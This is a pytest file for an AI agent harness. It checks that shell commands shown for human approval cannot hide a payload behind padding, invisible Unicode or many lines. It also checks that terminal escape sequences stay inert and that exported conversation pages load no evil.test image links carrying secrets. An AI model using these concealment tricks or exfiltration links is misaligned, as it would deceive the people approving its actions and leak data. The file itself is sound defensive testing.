"""Published ways to hide from the person who approves. Each test is named after its row."""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from orkas import Agent
from orkas.harness.policy import Policy
from orkas.harness.policy.question import MAX_LINES, lines_of, visible
from orkas.infra.events import Approval
from orkas.infra.messages import user_message
from orkas.infra.terminal import inert
from orkas.product.chat.screen import PlainScreen
from orkas.testing import ScriptedProvider, call


async def asked(tmp_path: Path, command: str) -> Approval:
    agent = Agent(ScriptedProvider([[call("shell", command=command)], "done"]), cwd=tmp_path)
    async for event in agent.stream("go"):
        if isinstance(event, Approval):
            agent.answer(event.id, "no")
            found = event
    return found


@pytest.mark.parametrize(("hidden", "shown"), [
    (" " * 500, "⟨500 spaces⟩"), ("\u202e", "\\u202e"), ("\u200b", "\\u200b"), ("\U000e0041", "\\U000e0041"),
    ("\u2800", "\\u2800"), ("\u3164", "\\u3164"), ("\ufe0f", "\\ufe0f"), ("\x1b[2K", "\\e[2K"), ("\r", "\\r"),
    ("\x07", "\\x07"), ("\u2066", "\\u2066"), ("\u00a0", "\\xa0"), ("\u00ad", "\\xad"), ("\x7f", "\\x7f"), ("\u2028", "\\u2028"),
    ("\t" * 50, "\\t" * 50),
])  # fmt: skip
async def test_cmd_pad(tmp_path: Path, hidden: str, shown: str) -> None:
    """Whatever a screen would hide or obey is written out, and never approved by itself."""
    command = f"ls{hidden}; touch payload"
    event = await asked(tmp_path, command)
    assert event.question == [f"ls{shown}; touch payload"]
    assert Policy("ask", headless=False).decide("shell", {"command": f"echo a{hidden}b"}).verdict == "ask"


async def test_cmd_pad_with_lines(tmp_path: Path) -> None:
    """Many lines are counted where they are left out, and both ends stay in sight."""
    event = await asked(tmp_path, "ls\n" + "\n" * 300 + "touch payload")
    assert event.question[0] == "ls"
    assert event.question[-1] == "touch payload"
    assert "+242 more lines" in event.question
    assert len(event.question) == MAX_LINES + 1
    [line] = lines_of("shell", {"command": "echo " + "a" * 5_000 + "; touch payload"})
    assert line.startswith("echo a")
    assert line.endswith("; touch payload")
    assert "more characters" in line
    assert visible("+5 more lines ⟨3 spaces⟩") == "+5 more lines \\u27e83 spaces\\u27e9"


def test_ui_ansi() -> None:
    """Nothing that is shown drives the terminal: not an answer, not the name of a file, not a question."""
    evil = "a\x1b]52;c;eA==\x07b\x1b]0;title\x07\x1b[2J\x9b31m\x1b[1;1Hc"
    for text in (inert(evil), visible(evil)):
        assert not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 for c in text)
    screen = PlainScreen(io.StringIO())
    screen.show(Approval(0, "q", "c", "own", [evil], [evil], evil, ["once"]))
    assert isinstance(screen.out, io.StringIO)
    shown = screen.out.getvalue()
    assert not any((ord(c) < 32 and c != "\n") or 0x7F <= ord(c) < 0xA0 for c in shown)


def test_ui_link_unfurl(tmp_path: Path) -> None:
    """A page made of a conversation loads nothing."""
    from orkas.harness.sessions.page import to_html

    text = "![x](http://evil.test/?q=secret) <img src=http://evil.test> https://evil.test/a"
    html = to_html("title", [user_message(text)], lambda _: b"")
    assert "default-src 'none'" in html
    assert "<img src=http" not in html
    assert 'src="http' not in html
